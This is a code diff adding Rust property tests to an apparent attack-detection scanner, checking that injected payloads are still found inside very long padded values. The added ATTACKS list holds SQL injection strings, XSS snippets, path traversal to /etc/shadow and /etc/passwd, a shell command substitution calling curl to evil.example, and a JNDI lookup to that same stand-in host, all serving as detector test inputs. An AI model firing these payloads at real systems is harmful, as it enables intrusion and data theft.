@@ -285,6 +285,35 @@ fn finds_an_attack_in_the_middle_of_a_long_value() {
     }
 }
 
+/// Attacks of every usual class, each found by itself.
+const ATTACKS: &[&str] = &[
+    "x' union select name, secret from staff-- ",
+    "nobody' or 'a'='a",
+    "7; drop table staff-- ",
+    "7 and pg_sleep(9)",
+    "'||(select secret from vault)||'",
+    "' or id is null; --",
+    "<img src=x onerror=f(7)>",
+    "<script>f(7)</script>",
+    "<a href=\"javascript:f(7)\">",
+    "%3Csvg%2Fonload%3Df(7)%3E",
+    "&lt;script&gt;f(7)&lt;/script&gt;",
+    "../../../../etc/shadow",
+    "..%252f..%252f..%252fetc%252fpasswd",
+    "; cat /etc/hosts ;",
+    "$(curl http://evil.example/x)",
+    "${jndi:ldap://evil.example/a}",
+    "{{''.__class__.__mro__}}",
+];
+
+/// What a value is filled with around an attack: prose, and what makes every part of the engine look.
+#[rustfmt::skip]
+const FILLINGS: &[&str] = &[
+    "A plain sentence follows another one. ", "It's a long story, and then (so they say) it went on; R&B. ", "a,b,c,1,2,3\n",
+    "<p class=\"a\">text &amp; more</p>\n", "{\"a\":1,\"b\":[true,null]},", "='", "'", "' '", "\"-\"", "(((", "or ", "|", "&", "&amp;amp;",
+    "%25", "%2541 ", "/a/../b ", ";x ", "-- \n", "#\n", "/* */", "a='b'&", "; ''", "<b>", "{{a}} ", "\\n", "\u{2019}",
+];
+
 #[test]
 fn excluded_rules_and_classes_hide_only_themselves() {
     let value = b"<img src=x onerror=alert(7)>' or 'a'='a";
@@ -368,6 +397,22 @@ mod properties {
                 value = value.bytes().map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect();
             }
             prop_assert!(scan(value.as_bytes(), ClassSet::ALL).is_some());
+        }
+    }
+
+    proptest! {
+        // Some of the values are of a hundred kilobytes.
+        #![proptest_config(ProptestConfig::with_cases(40))]
+
+        #[test]
+        fn an_attack_stays_found_however_much_stands_before_and_after_it(
+            attack in prop::sample::select(ATTACKS),
+            before in prop::sample::select(FILLINGS),
+            after in prop::sample::select(FILLINGS),
+            (ahead, behind) in prop::sample::select(vec![(200_usize, 200_usize), (5000, 0), (0, 5000), (9000, 9000), (60_000, 60_000)]),
+        ) {
+            let value = format!("{} {attack} {}", before.repeat(ahead / before.len()), after.repeat(behind / after.len()));
+            prop_assert!(scan(value.as_bytes(), ClassSet::ALL).is_some(), "{} bytes of {:?}, {}, {} of {:?}", ahead, before, attack, behind, after);
         }
     }
 }
